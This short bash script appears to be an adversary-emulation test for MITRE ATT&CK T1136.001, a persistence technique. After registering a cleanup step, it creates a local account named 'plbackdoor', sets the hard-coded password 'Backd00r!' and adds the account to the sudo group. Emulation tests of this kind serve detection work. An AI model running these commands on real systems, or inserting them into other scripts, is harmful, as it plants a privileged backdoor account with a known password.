#!/bin/bash
# SPDX-License-Identifier: MIT
# attack: T1136.001
# tactic: persistence
# what: useradd of a new account, usermod -aG sudo, then removed
. "$AT_LIB"
at_undo "userdel -r -f plbackdoor"
useradd -m -s /bin/bash plbackdoor
echo 'plbackdoor:Backd00r!' | chpasswd
getent group sudo >/dev/null && usermod -aG sudo plbackdoor
